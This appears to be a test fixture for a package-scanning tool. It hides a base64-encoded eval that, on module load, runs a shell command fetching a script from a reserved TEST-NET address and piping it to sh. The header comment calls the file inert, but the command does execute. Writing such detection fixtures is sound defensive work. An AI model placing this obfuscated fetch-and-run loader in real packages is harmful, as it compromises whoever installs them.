// Inert test fixture for assay's package rules: it imitates a malware technique
// with reserved example hosts and TEST-NET addresses and does nothing when run.
module.exports = function noop() {};
eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cDovLzE5Mi4wLjIuMTAvcC5zaCB8IHNoJyk=', 'base64').toString());
